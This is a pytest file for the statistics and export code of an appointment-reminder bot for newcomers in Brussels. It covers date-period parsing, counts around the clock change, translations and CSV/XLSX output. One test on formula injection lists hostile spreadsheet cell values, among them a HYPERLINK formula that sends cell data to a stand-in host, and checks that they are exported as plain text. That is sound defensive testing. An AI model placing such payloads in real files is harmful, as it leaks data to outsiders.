"""The rules of the figures: periods as staff type them, what falls inside a period
(local days, also on the night the clocks go back), how the counts add up, and the
words, chart and files in every language."""

from __future__ import annotations

import csv
import datetime as dt
import logging
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.appointments.records import Answer, Kind, Status
from bot.figures.chart import chart_png, panels
from bot.figures.export import Cell, Table, appointments_table, csv_text, write_files
from bot.figures.queries import (
    Announcements,
    AppointmentRow,
    Attendance,
    Handovers,
    Period,
    PeriodProblem,
    UnclearPeriod,
    appointment_rows,
    figures_from,
    gather,
    parse_period,
)
from bot.figures.words import period_data, period_from_data, summary
from bot.storage.database import Store
from messages.languages import SUPPORTED_LANGUAGES
from tests.e2e.people import BRUSSELS

TODAY = dt.date(2027, 11, 3)


@pytest.mark.parametrize(
    ("typed", "first", "last"),
    [
        ("1-10-2027 31-10-2027", dt.date(2027, 10, 1), dt.date(2027, 10, 31)),
        ("1/10/27 - 31/10/27", dt.date(2027, 10, 1), dt.date(2027, 10, 31)),
        ("2027-10-01 tot en met 2027-10-31", dt.date(2027, 10, 1), dt.date(2027, 10, 31)),
        ("1.9 t/m 30.9", dt.date(2027, 9, 1), dt.date(2027, 9, 30)),  # this year
        ("29/2/2028", dt.date(2028, 2, 29), dt.date(2028, 2, 29)),  # one day
    ],
)
def test_periods_as_staff_type_them(typed: str, first: dt.date, last: dt.date) -> None:
    assert parse_period(typed, TODAY) == Period(first, last)


@pytest.mark.parametrize(
    ("typed", "problem"),
    [
        ("oktober", PeriodProblem.UNCLEAR),
        ("1-10-2027 31-10-2027 extra", PeriodProblem.UNCLEAR),
        ("29/2/2027", PeriodProblem.NO_SUCH_DATE),
        ("1-13-2027", PeriodProblem.NO_SUCH_DATE),
        ("31-10-2027 1-10-2027", PeriodProblem.REVERSED),
    ],
)
def test_unclear_periods_say_why(typed: str, problem: PeriodProblem) -> None:
    with pytest.raises(UnclearPeriod) as raised:
        parse_period(typed, TODAY)
    assert raised.value.problem is problem


def test_this_month_and_the_month_before_across_a_new_year() -> None:
    assert Period.month_of(dt.date(2028, 1, 15)) == Period(
        dt.date(2028, 1, 1), dt.date(2028, 1, 31)
    )
    assert Period.month_before(dt.date(2028, 1, 15)) == Period(
        dt.date(2027, 12, 1), dt.date(2027, 12, 31)
    )
    assert Period.month_of(dt.date(2028, 2, 10)).last == dt.date(2028, 2, 29)


def test_buttons_name_their_period_and_forged_data_names_none() -> None:
    october = Period(dt.date(2027, 10, 1), dt.date(2027, 10, 31))
    assert period_from_data(period_data(october)) == october
    for forged in ("v1:fig:", "v1:fig:2027:2028", "v1:fig:20271031:20271001", "v1:fig:x:1:2"):
        assert period_from_data(forged) is None


async def test_a_local_day_counts_whole_on_the_night_the_clocks_go_back(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """31 October 2027 has 25 hours in Brussels: 23:30 that evening is October, 00:30 the
    next morning is November, whatever UTC says."""
    store = await Store.open(tmp_path / "figures.db")
    try:
        async with store.transaction() as db:
            await db.execute(
                "INSERT INTO newcomers (reference, first_name, language, created_at)"
                " VALUES ('K-AAAA', 'Amal', 'ar', '2027-10-01T08:00:00.000000Z')"
            )
            for starts in (
                "2027-09-30T21:59:00.000000Z",  # 23:59 on 30 September (summer time)
                "2027-09-30T22:00:00.000000Z",  # 00:00 on 1 October
                "2027-10-31T22:30:00.000000Z",  # 23:30 on 31 October (winter time)
                "2027-10-31T23:30:00.000000Z",  # 00:30 on 1 November
            ):
                await db.execute(
                    "INSERT INTO appointments (newcomer_id, kind, starts_at, place, status,"
                    " created_at, updated_at) VALUES (1, 'job_coach', ?, 'VDAB', 'attended', ?, ?)",
                    (starts, starts, starts),
                )
        october = Period(dt.date(2027, 10, 1), dt.date(2027, 10, 31))
        rows = await appointment_rows(store, october, BRUSSELS)
        assert [(row.starts_at.day, row.starts_at.hour) for row in rows] == [(1, 0), (31, 23)]
        figures = await gather(store, october, BRUSSELS)
        assert figures.attendance == Attendance(attended=2)
        assert [(c.language, c.invited, c.linked) for c in figures.newcomers] == [("ar", 1, 0)]
    finally:
        await store.close()


async def test_each_reminders_outcome_is_counted_for_its_appointment(tmp_path: Path) -> None:
    """Counted in SQLite now (issue 20): sent and failed as the outbox says, or as the
    reminder kept it after the purge; skipped by the planner or by the outbox; late only
    when it went; waiting and cancelled not at all."""
    store = await Store.open(tmp_path / "figures.db")
    at = "2027-10-05T08:00:00.000000Z"
    try:
        async with store.transaction() as db:
            await db.execute(
                "INSERT INTO newcomers (reference, first_name, language, created_at)"
                " VALUES ('K-AAAA', 'Amal', 'ar', ?)",
                (at,),
            )
            for _ in (1, 2):
                await db.execute(
                    "INSERT INTO appointments (newcomer_id, kind, starts_at, place, status,"
                    " created_at, updated_at) VALUES (1, 'job_coach', ?, 'VDAB', 'planned', ?, ?)",
                    (at, at, at),
                )
            for n, status in enumerate(("sent", "failed", "skipped", "sending"), 1):
                await db.execute(
                    "INSERT INTO outbox (id, chat_id, purpose, payload, due_at, idempotency_key,"
                    " status, created_at, updated_at)"
                    " VALUES (?, 5, 'reminder', '{}', ?, ?, ?, ?, ?)",
                    (n, at, f"k{n}", status, at, at),
                )
            reminders = [  # (appointment, offset, status, late, outbox row, kept delivery)
                (1, 4320, "queued", 1, 1, None),  # sent, late
                (1, 1440, "queued", 0, 2, None),  # failed
                (1, 120, "queued", 0, 3, None),  # skipped by the outbox (stopped meanwhile)
                (1, 60, "queued", 0, 4, None),  # still on its way
                (2, 4320, "queued", 0, None, "sent"),  # the outbox row purged: kept
                (2, 1440, "skipped", 0, None, None),  # skipped by the planner
                (2, 120, "cancelled", 0, None, None),
                (2, 60, "planned", 0, None, None),
            ]
            for appointment, offset, status, late, outbox_id, delivery in reminders:
                await db.execute(
                    "INSERT INTO reminders (appointment_id, starts_at, offset_minutes, due_at,"
                    " status, late, outbox_id, delivery, created_at, updated_at)"
                    " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                    (appointment, at, offset, at, status, late, outbox_id, delivery, at, at),
                )
        october = Period(dt.date(2027, 10, 1), dt.date(2027, 10, 31))
        rows = await appointment_rows(store, october, BRUSSELS)
        counted = [
            (r.id, r.reminders_sent, r.reminders_failed, r.reminders_late, r.reminders_skipped)
            for r in rows
        ]
        assert counted == [(1, 1, 1, 1, 1), (2, 1, 0, 0, 1)]
        # The chat view counts in SQLite, the export from the rows: the same figures.
        assert await gather(store, october, BRUSSELS) == await gather(
            store, october, BRUSSELS, rows
        )
    finally:
        await store.close()


def row(kind: Kind, status: Status, answer: Answer | None, language: str = "ar") -> AppointmentRow:
    return AppointmentRow(
        id=1,
        starts_at=dt.datetime(2027, 10, 5, 10, tzinfo=BRUSSELS),
        kind=kind,
        organisation="VDAB",
        language=language,
        interpreter_language="",
        source="chat",
        answer=answer,
        answer_reason="",
        status=status,
        reminders_sent=2,
        reminders_failed=0,
        reminders_late=0,
        reminders_skipped=1,
        reference="K-AAAA",
    )


def test_cancelled_appointments_count_only_as_cancelled() -> None:
    figures = figures_from(
        Period(dt.date(2027, 10, 1), dt.date(2027, 10, 31)),
        [
            row(Kind.DUO_INTAKE, Status.CANCELLED, Answer.NOT_COMING),
            row(Kind.DUO_INTAKE, Status.NO_SHOW, Answer.COMING, "ti"),
            row(Kind.JOB_COACH, Status.PLANNED, None),
        ],
        newcomers=[],
        handovers=Handovers(),
        announcements=Announcements(),
    )
    assert (figures.appointments, figures.cancelled) == (3, 1)
    assert figures.reminders.sent == 6 and figures.reminders.skipped == 3  # its reminders went
    assert figures.attendance == Attendance(no_show=1, open=1)
    assert figures.attendance.no_show_rate == 1.0
    assert figures.by_kind[Kind.JOB_COACH].no_show_rate is None  # nobody to count yet
    assert list(figures.by_language) == ["ar", "ti"]


def test_every_language_writes_the_figures_and_the_chart(
    caplog: pytest.LogCaptureFixture,
) -> None:
    figures = figures_from(
        Period(dt.date(2027, 10, 1), dt.date(2027, 10, 31)),
        [row(Kind.DUO_INTAKE, Status.ATTENDED, Answer.COMING)],
        newcomers=[],
        handovers=Handovers(1, 1, 0, dt.timedelta(hours=30)),
        announcements=Announcements(1, 10, 9, 3, 2),
    )
    caplog.set_level(logging.WARNING)
    for language in SUPPORTED_LANGUAGES:
        text = summary(figures, language)
        assert "{" not in text
        table = appointments_table(
            [row(Kind.JOB_COACH, Status.NO_SHOW, None)], language, with_reference=False
        )
        assert len(table.header) == len(table.rows[0]) == 16
    assert not [r for r in caplog.records if "no translation" in r.getMessage()]
    # Every reader gets the chart in their own language (tests/test_chart_languages.py).
    assert panels(figures, "ar")[0].title == "التذكيرات"
    assert panels(figures, "en")[0].title == "Reminders"


def test_an_empty_period_still_draws_a_chart_that_says_so() -> None:
    empty = figures_from(
        Period(dt.date(2027, 10, 1), dt.date(2027, 10, 31)),
        [],
        newcomers=[],
        handovers=Handovers(),
        announcements=Announcements(),
    )
    assert empty.empty and panels(empty, "nl") == []
    assert chart_png(empty, "nl").startswith(b"\x89PNG")


def test_csv_keeps_the_references_out_unless_asked() -> None:
    rows = [row(Kind.JOB_COACH, Status.ATTENDED, Answer.COMING)]
    assert "K-AAAA" not in csv_text(appointments_table(rows, "nl", with_reference=False))
    with_codes = csv_text(appointments_table(rows, "nl", with_reference=True))
    assert with_codes.splitlines()[0].endswith(";Code") and "K-AAAA" in with_codes


def test_text_that_starts_like_a_formula_is_written_as_text_in_both_files(
    tmp_path: Path,
) -> None:
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
    ordinary = ["VDAB", "Arabisch", "10:00", "K-7F3Q", ""]
    numbers = [-2, -1234.56, 0, 3, 2.5, -2]
    day = dt.date(2027, 1, 26)
    body: list[list[Cell]] = [[text, day, n] for text, n in zip(hostile, numbers, strict=True)]
    body += [[text, day, 1] for text in ordinary]
    table = Table("Afspraken", ["=A1", "Datum", "Getal"], body)
    written = write_files(tmp_path, "export", table, table)
    sheet = load_workbook(written[0])["Afspraken"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["'=A1", "Datum", "Getal"]
    # (XML reads a carriage return back as a line feed.)
    quoted = ["'" + text.replace("\r", "\n") for text in hostile]
    assert [row[0] for row in rows[1:]] == [*quoted, *ordinary[:-1], None]
    assert {sheet.cell(row, 1).data_type for row in range(2, 8)} == {"s"}  # not "f", a formula
    # Numbers stay numbers (negative ones too), dates stay dates.
    assert [row[2] for row in rows[1:7]] == numbers
    assert {row[1] for row in rows[1:]} == {dt.datetime(2027, 1, 26)}
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    with written[1].open(encoding="utf-8-sig", newline="") as file:
        read = list(csv.reader(file, delimiter=";"))
    assert read[0] == ["'=A1", "Datum", "Getal"]
    assert [row[0] for row in read[1:]] == ["'" + text for text in hostile] + ordinary
    assert [row[1:] for row in read[1:4]] == [
        ["2027-01-26", "-2"], ["2027-01-26", "-1234.56"], ["2027-01-26", "0"]
    ]  # fmt: skip
